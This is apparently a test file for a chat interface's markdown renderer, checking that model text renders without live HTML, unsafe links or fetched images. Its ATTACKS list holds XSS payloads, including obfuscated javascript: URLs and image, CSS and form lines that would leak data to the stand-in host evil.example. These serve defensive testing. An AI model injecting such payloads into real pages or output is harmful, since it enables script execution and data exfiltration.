/** Rendering of a model's text: only our own markup, never HTML from the text. */
import { fireEvent, render } from "@testing-library/svelte";
import { describe, expect, it } from "vitest";
import { IncrementalParser, closeOpenSyntax } from "../src/features/chat/markdown/blocks";
import BlockView from "../src/features/chat/markdown/BlockView.svelte";
import { highlightCode } from "../src/features/chat/markdown/highlight";
import { decodeReferences, safeLink } from "../src/features/chat/markdown/links";
import { stableList } from "../src/features/chat/stable-list";

function shown(text: string, opened: string[] = []): HTMLElement {
  const box = document.createElement("div");
  document.body.append(box);
  for (const { token } of new IncrementalParser().parse(text, false))
    render(BlockView, { target: box, props: { token, onLink: (url: string) => opened.push(url) } });
  return box;
}

const ATTACKS = [
  "<img src=x onerror=alert(1)>",
  "[click](javascript:alert(1))",
  "[click](vbscript:msgbox(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
  "<iframe src=https://evil.example></iframe>",
  "<form action=https://evil.example><input name=key></form>",
  "<style>body { background: url(https://evil.example/?leak) }</style>",
  "![tracker](https://evil.example/?secret=1)",
  "![x][y]\n\n[y]: https://evil.example/?secret=1",
  "[click][z]\n\n[z]: javascript:alert(1)",
  "<javascript:alert(1)> ![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "<link rel=prefetch href=https://evil.example> <meta http-equiv=refresh " +
    "content=0;url=https://evil.example>",
  '[a](&#106;avascript:alert(1)) <a href="java\tscript:alert(1)">b</a>',
];

describe("nothing of the text becomes markup", () => {
  it.each(ATTACKS)("%s", (attack) => {
    const opened: string[] = [];
    const box = shown(`before ${attack} after\n\n${attack}`, opened);
    expect(
      box.querySelectorAll(
        "img, script, iframe, link, meta, video, audio, style, form, input, math, object, " +
          "a[href], [src], [onerror], [onload]",
      ),
    ).toHaveLength(0);
    for (const element of box.querySelectorAll("svg"))
      expect(element.getAttribute("class")).toContain("lucide");
    box.querySelectorAll<HTMLElement>("[role='link']").forEach((link) => link.click());
    expect(opened.filter((url) => !/^(https?|mailto):/.test(url))).toEqual([]);
    expect(box.textContent).toContain("before");
  });
  it("raw HTML is there to be read", () => {
    expect(shown("a <b onclick=x>bold</b> word").textContent).toContain("<b onclick=x>bold</b>");
  });
  it("an image is its words and where it is, and is not fetched", () => {
    const box = shown("![the picture](https://example.org/a.png)");
    expect(box.textContent).toContain("the picture");
    expect(box.textContent).toContain("example.org");
  });
  it("a link is handed on to be asked about", async () => {
    const opened: string[] = [];
    const box = shown("see [the guide](https://example.org/guide)", opened);
    await fireEvent.keyDown(box.querySelector("[role='link']")!, { key: "Enter" });
    expect(opened).toEqual(["https://example.org/guide"]);
    expect(safeLink("//example.org")).toBeNull();
  });
  it("a number with a point alone is no list", () => {
    expect(shown("42.").textContent).toContain("42.");
  });
  it("character references are characters", () => {
    expect(decodeReferences("a &lt;b&gt; &#38; &#x2192; &nope;")).toBe("a <b> & → &nope;");
  });
});

describe("a text that grows", () => {
  it("keeps the blocks that are settled, and comes to the same as read at once", () => {
    const text =
      "# One\n\nTwo *three*\n\n- a\n- b\n\n```toml\nx = 1\n\ny = 2\n```\n\n| a | b " +
      "|\n|---|---|\n| 1 | 2 |\n\nEnd **bold**.\n\nSetext\n===\n";
    const growing = new IncrementalParser();
    let before = growing.parse("", true);
    for (let at = 1; at <= text.length; at++) {
      const now = growing.parse(text.slice(0, at), true);
      if (before.length > 4) expect(now[0]).toBe(before[0]);
      before = now;
    }
    expect(growing.parse(text, false).map((one) => one.token)).toEqual(
      new IncrementalParser().parse(text, false).map((one) => one.token),
    );
    expect(before.slice(0, -2).map((one) => [one.at, one.raw])).toEqual(
      growing
        .parse(text, false)
        .slice(0, before.length - 2)
        .map((one) => [one.at, one.raw]),
    );
  });
  it.each([
    ["so **bold", "so **bold**"],
    ["so **bold*", "so **bold***"],
    ["so **", "so "],
    ["a `code", "a `code`"],
    ["a `", "a "],
    ["see [the gui", "see the gui"],
    ["see [the guide](https://exa", "see the guide"],
    ["![pic](https://exa", ""],
    ["done **bold** and `code`", "done **bold** and `code`"],
    ["```py\nx = `a", "```py\nx = `a"],
  ])("%j is shown as %j", (text, expected) => {
    expect(closeOpenSyntax(text)).toBe(expected);
  });
});

describe("code", () => {
  it("keeps every character, whatever its colour", () => {
    const code = '[[modes]]\nname = "<b>" # x';
    const found = highlightCode(code, "toml");
    expect(found.map((one) => one.text).join("")).toBe(code);
    expect(found.find((one) => one.text.includes("<b>"))?.kind).toBe("string");
    expect(highlightCode(code, "klingon")).toEqual([{ text: code, kind: "" }]);
    expect(highlightCode(code, "constructor")).toHaveLength(1);
  });
});

describe("steady lists", () => {
  it("stay the same list for as long as they hold the same things", () => {
    let things: object[] = [];
    const list = stableList(() => [...things]);
    const [a, b] = [{}, {}];
    const none = list();
    expect(list()).toBe(none);
    things = [a];
    const one = list();
    expect(one).toEqual([a]);
    expect(list()).toBe(one);
    things = [b];
    expect(list()[0]).toBe(b);
    things = [];
    expect(list()).toEqual([]);
  });
});
